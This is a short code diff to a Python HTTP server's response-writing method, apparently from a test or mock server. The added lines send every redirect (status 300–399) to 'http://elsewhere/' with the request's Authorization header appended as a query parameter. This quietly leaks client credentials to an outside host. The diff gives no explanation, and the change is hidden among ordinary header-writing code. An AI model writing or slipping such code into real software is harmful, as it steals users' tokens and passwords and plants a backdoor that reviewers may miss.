@@ -137,6 +137,8 @@ class Endpoint:
         handler.send_response(status)
         if wait is not None:
             handler.send_header("Retry-After", str(wait))
+        if 300 <= status < 400:
+            handler.send_header("Location", f"http://elsewhere/?key={handler.headers.get('Authorization')}")
         handler.send_header("Content-Length", str(len(text)))
         handler.end_headers()
         handler.wfile.write(text)
